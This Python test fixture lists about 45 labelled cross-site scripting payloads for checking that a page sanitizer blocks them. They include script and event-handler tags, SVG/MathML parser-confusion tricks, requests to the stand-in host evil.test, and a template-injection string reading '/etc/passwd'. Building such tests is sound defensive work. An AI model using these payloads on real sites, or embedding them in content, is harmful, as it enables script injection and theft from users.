# ruff: noqa: E501 (a text that attacks is shown whole, as it would be sent)
"""Texts that try to run something in a reader's browser. A run sets `window.__hit` or asks
`evil.test` for something; both are what the tests look for.

Every one of them is sent as body, headline, deck, caption, name and comment.
"""

from __future__ import annotations

HIT = "window.__hit=1"

HOSTILE: dict[str, str] = {
    "script": f"<script>{HIT}</script>",
    "script from elsewhere": "<script src=//evil.test/x.js></script>",
    "script in capitals": f"<ScRiPt>{HIT}</sCrIpT>",
    "script in pieces": f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    "script as module": "<script type=module>import 'http://evil.test/m.js'</script>",
    "script unclosed": f"<p>x<script>{HIT}",
    "NUL in a name": f"<scr\x00ipt>{HIT}</scr\x00ipt><img src=x onerr\x00or={HIT}>",
    "broken picture": f"<img src=x onerror={HIT}>",
    "handler after a slash": f"<img/src=x/onerror={HIT}>",
    "handler that breaks out": f"\"><img src=x onerror={HIT}>'><img src=x onerror={HIT}>",
    "handler by itself": f"\" autofocus onfocus={HIT} x=\"' autofocus onfocus={HIT} x='",
    "handler on text": f"<p onpointerover={HIT} onclick={HIT} style=position:fixed;inset:0>x</p>",
    "handler on a details": f"<details open ontoggle={HIT}>x</details>",
    "handler on media": f"<video><source onerror={HIT}></video><audio src=x onerror={HIT}>",
    "handler on a body": f"<body onload={HIT}><frameset onload={HIT}>",
    "handler by animation": f"<style>@keyframes a{{}}</style><b style=animation:a onanimationstart={HIT}>x",
    "link with a script": f"<a href=javascript:{HIT}>x</a>",
    "link with a hidden script": f"<a href=' &#1;java&#x09;script&colon;{HIT}'>x</a>",
    "link with vbscript": "<a href=vbscript:msgbox(1)>x</a>",
    "link with data": f"<a href='data:text/html,<script>{HIT}</script>'>x</a>",
    "frame": f"<iframe src=javascript:{HIT}></iframe><iframe srcdoc='<script>parent.{HIT}</script>'>",
    "object": f"<object data=javascript:{HIT}></object><embed src=javascript:{HIT}>",
    "SVG that loads": f"<svg onload={HIT}><svg/onload={HIT}>",
    "SVG with a script": f"<svg><script>{HIT}</script><script href=data:,{HIT} /></svg>",
    "SVG that animates": f"<svg><a><animate attributeName=href values=javascript:{HIT} /><text y=9>x",
    "SVG style confusion": f"<svg><style><img src=x onerror={HIT}></style></svg>",
    "MathML link": f"<math><maction actiontype=statusline xlink:href=javascript:{HIT}>x</maction></math>",
    "MathML confusion": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
        f"onerror={HIT}&gt;'>"
    ),
    "form in a form confusion": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>"
    ),
    "noscript confusion": f"<noscript><p title='</noscript><img src=x onerror={HIT}>'></noscript>",
    "template": f"<template><img src=x onerror={HIT}></template><x is=y><slot onslotchange={HIT}>",
    "comment confusion": f"<!--><img src=x onerror={HIT}>--><!--x--!><img src=x onerror={HIT}>-->",
    "cdata confusion": f"<svg><![CDATA[><img src=x onerror={HIT}>]]></svg>",
    "title confusion": f"</title></textarea></style></script><img src=x onerror={HIT}>",
    "broken nesting": f"<b><p><a href=x><table><a href=y><td><figure><p></b><img src=x onerror={HIT}>",
    "figure that breaks out": (
        f"<figure data-picture='x\"><img src=x onerror={HIT}>'><figcaption>"
        f"<img src=x onerror={HIT}></figcaption></figure>"
    ),
    "style that asks": "<style>*{background:url(//evil.test/c)}</style><p style='background:url(//evil.test/d)'>x",
    "style sheet": "<link rel=stylesheet href=//evil.test/s.css><style>@import '//evil.test/i';</style>",
    "refresh": f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'><meta http-equiv=refresh content=0;//evil.test/r>",
    "base": "<base href=//evil.test/><img src=p.png><a href=q>x</a>",
    "form": f"<form action=//evil.test/f><input name=q autofocus onfocus={HIT}><button formaction=javascript:{HIT}>x",
    "pictures that ask": "<img src=//evil.test/p.png srcset='//evil.test/q.png 2x'><input type=image src=//evil.test/r>",
    "template language": "{{ request.user.password }}{% include '/etc/passwd' %}${7*7}<%= 7*7 %>",
    "entities twice": f"&amp;lt;script&amp;gt;{HIT}&amp;lt;/script&amp;gt;&lt;img src=x onerror={HIT}&gt;",
}

SHORT = {name: text for name, text in HOSTILE.items() if len(text) <= 80}
